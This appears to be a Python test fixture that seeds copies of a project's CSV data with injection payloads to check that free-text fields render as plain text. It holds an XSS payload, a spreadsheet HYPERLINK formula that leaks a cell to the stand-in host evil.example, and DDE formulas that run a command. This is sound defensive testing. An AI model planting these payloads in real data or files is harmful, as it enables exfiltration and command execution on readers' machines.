"""A copy of the project's data with HTML, script and Markdown tricks in
every kind of free-text field a reader sees: for proving that all of it
shows as text."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
PAYLOAD = (
    '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
    '[click](javascript:window.__xss=3) <b>bold</b> & "quotes"'
)
FIELDS = {
    "strikes.csv": ["notes", "location_basis", "announced_by", "alleged_group", "vessel_type"],
    "deployments.csv": ["asset", "unit", "notes", "location_basis", "end_basis"],
    "sites.csv": ["name", "country", "notes", "location_basis"],
    "site_status.csv": ["note"],
    "events.csv": ["title", "notes", "location_basis"],
    "tallies.csv": ["publisher", "counts", "notes"],
    "sources.csv": ["publisher", "title", "summary"],
}


# Spreadsheet formulas (OWASP CSV injection), one kind after another down the rows
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def poison_cells(path: Path, columns: list[str], payloads: tuple[str, ...] = (PAYLOAD,)) -> None:
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
        header = list(rows[0].keys())
    for number, row in enumerate(rows):
        for column in columns:
            row[column] = f"{payloads[number % len(payloads)]} {row[column]}"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def poisoned_copy(directory: Path, payloads: tuple[str, ...] = (PAYLOAD,)) -> Path:
    """DIR/data and DIR/seeds with the payload in every free-text field; returns DIR/data."""
    shutil.copytree(REPO / "data", directory / "data")
    shutil.copytree(REPO / "seeds", directory / "seeds")
    for file, columns in FIELDS.items():
        folder = "seeds" if file == "sources.csv" else "data"
        poison_cells(directory / folder / file, columns, payloads)
    return directory / "data"


def formula_copy(directory: Path) -> Path:
    """DIR/data and DIR/seeds with a spreadsheet formula starting every free-text field."""
    return poisoned_copy(directory, FORMULAS)
